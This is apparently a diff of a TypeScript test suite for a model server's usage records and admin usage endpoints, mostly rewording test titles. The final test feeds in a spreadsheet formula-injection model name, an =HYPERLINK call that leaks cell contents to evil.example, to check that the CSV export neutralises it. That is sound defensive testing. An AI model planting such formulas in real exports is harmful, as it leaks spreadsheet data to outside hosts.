@@ -4,12 +4,12 @@ import { join } from "node:path";
 import { ADMIN } from "../../../src/principal.ts";
 import { answerChat, answering } from "../../support/chat-agent.ts";
 import { startModelScene } from "../../support/model-scene.ts";
+import { readCsv } from "../../support/read-csv.ts";
 import { ADMIN_KEY, startTestServer, type TestServer } from "../../support/server.ts";
 import { openTestFile } from "../../support/store.ts";
 import { until } from "../../support/until.ts";
 import { addLimitedUser, callerOf } from "../../support/user-caller.ts";
 import { V2_HELLO, type V2AgentOptions } from "../../support/v2-agent.ts";
-import { readCsv } from "../read-csv.ts";
 
 const NOON = Date.UTC(2026, 10, 23, 12);
 const DAY_MS = 86_400_000;
@@ -40,7 +40,7 @@ function rowsIn({ data }: TestServer): Record<string, unknown>[] {
 const usage = { prompt_tokens: 7, completion_tokens: 3 };
 const EMPTY = { failed: 0, prompt_tokens: 0, completion_tokens: 0, uncounted: 0, duration_ms: 0 };
 
-/** Answers with figures, without, or not at all, as the model's name says. */
+/** Answers with token counts, without, or not at all, as the model's name says. */
 const byModel: V2AgentOptions = {
   hello: { ...V2_HELLO, models: [{ id: "m" }, { id: "silent about figures" }, { id: "broken" }] },
   onAsk: ({ ask, stream, body }, agent) => {
@@ -52,7 +52,7 @@ const byModel: V2AgentOptions = {
 };
 
 describe("the rows", () => {
-  test("are one for each ask that was taken, exact in all they say, and none for one that was refused", async () => {
+  test("there is one exact usage row for each admitted request, and none for a refused one", async () => {
     const { server, agent, post } = await startModelScene(byModel);
     const user = await addLimitedUser(server.url, { requests_per_minute: 6 });
     const caller = callerOf(server.url, user);
@@ -100,7 +100,7 @@ describe("the rows", () => {
     for (const { at } of rows) expect(at).toBeLessThanOrEqual(until);
   });
 
-  test("are written behind the asks, and those that wait or run still when the server stops", async () => {
+  test("usage rows are written behind, also for requests that wait or run when the server stops", async () => {
     const { server, agent } = await startModelScene({}, ["--drain", "100ms"]);
     const caller = callerOf(server.url, await addLimitedUser(server.url));
     const done = caller.chat();
@@ -119,14 +119,14 @@ describe("the rows", () => {
     ]);
   });
 
-  test("have no name longer than names are", async () => {
+  test("usage rows cut off names that are too long", async () => {
     const { server } = await startModelScene(answering(), ["--reconnect-grace", "0s"]);
     await callerOf(server.url, await addLimitedUser(server.url)).ask({ model: "x".repeat(100_000) });
     await server.stop();
     expect(rowsIn(server).map(({ model }) => String(model).length)).toEqual([256]);
   });
 
-  test("that are too old are purged, at the start and without holding it up", async () => {
+  test("usage rows past their age are purged at the start, without delaying it", async () => {
     setSystemTime(NOON);
     const { data, stop } = await startTestServer();
     await stop();
@@ -152,7 +152,7 @@ describe("the rows", () => {
 });
 
 describe("GET /admin/usage", () => {
-  /** Ann asks twice on the 21st and once on the 23rd, where Bob fails once and the administrator asks once. */
+  /** Ann sends two requests on the 21st and one on the 23rd, when Bob fails once and the administrator sends one. */
   async function scene() {
     setSystemTime(NOON - 2 * DAY_MS);
     const { server, agent, post } = await startModelScene(byModel);
@@ -169,7 +169,7 @@ describe("GET /admin/usage", () => {
   const sums = (asks: number, more: object = {}) => ({ asks, ...EMPTY, ...more });
   const counted = (asks: number) => ({ prompt_tokens: 7 * asks, completion_tokens: 3 * asks });
 
-  test("sums the last 30 days by day, and by whatever else is asked for", async () => {
+  test("the usage is summed for the last 30 days by day, or by the groups in the query", async () => {
     const { server, agent, ann, bob } = await scene();
     const { body } = await usageOf(server);
     expect(body).toEqual({
@@ -185,7 +185,7 @@ describe("GET /admin/usage", () => {
     const by = async (query: string) => (await usageOf(server, query)).body.usage;
     const [most, ...others] = await by("by=user");
     expect(most).toEqual({ user: ann.user_id, ...sums(3, { ...counted(2), uncounted: 1 }) });
-    // They have as many asks.
+    // They have the same number of requests.
     expect(others).toHaveLength(2);
     expect(others).toContainEqual({ user: bob.user_id, ...sums(1, { uncounted: 1, failed: 1 }) });
     expect(others).toContainEqual({ user: null, ...sums(1, counted(1)) });
@@ -204,7 +204,7 @@ describe("GET /admin/usage", () => {
     expect((await usageOf(server, "by=user&limit=3")).body).toMatchObject({ truncated: false });
   });
 
-  test("takes a date with all of its day, and a time to the millisecond without itself", async () => {
+  test("the end of the usage period includes a whole date, and excludes an exact time", async () => {
     const { server } = await scene();
     const asks = async (query: string) => (await usageOf(server, `by=&${query}`)).body.usage[0]?.asks ?? 0;
     expect(await asks("from=2026-11-21&to=2026-11-21")).toBe(2);
@@ -230,7 +230,7 @@ describe("GET /admin/usage", () => {
     ["limit=0", "limit"],
     ["limit=10001", "limit"],
     ["limit=many", "limit"],
-  ])("refuses %s, and names the field", async (query, field) => {
+  ])("the usage query %s is refused with the name of the field", async (query, field) => {
     const server = await startTestServer();
     const { response, body } = await usageOf(server, query);
     expect([response.status, body]).toEqual([
@@ -239,7 +239,7 @@ describe("GET /admin/usage", () => {
     ]);
   });
 
-  test("is for the administrator, as is that of one user, and one's own is for everybody", async () => {
+  test("the usage of all and of one user is for the administrator, and everybody can read their own", async () => {
     const { server, ann, bob } = await scene();
     const caller = callerOf(server.url, ann);
     for (const path of ["/admin/usage", `/admin/users/${ann.user_id}/usage`]) {
@@ -267,7 +267,7 @@ describe("GET /admin/usage", () => {
     expect((await fetch(`${server.url}/api/usage`)).status).toBe(401);
   });
 
-  test("gives a table for spreadsheets, in which no name that an agent chose is a formula", async () => {
+  test("the usage is also a table for spreadsheets, in which no name that an agent chose is a formula", async () => {
     const models = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1", "plain, with a comma"];
     const { server, post } = await startModelScene({
       ...answering(usage),
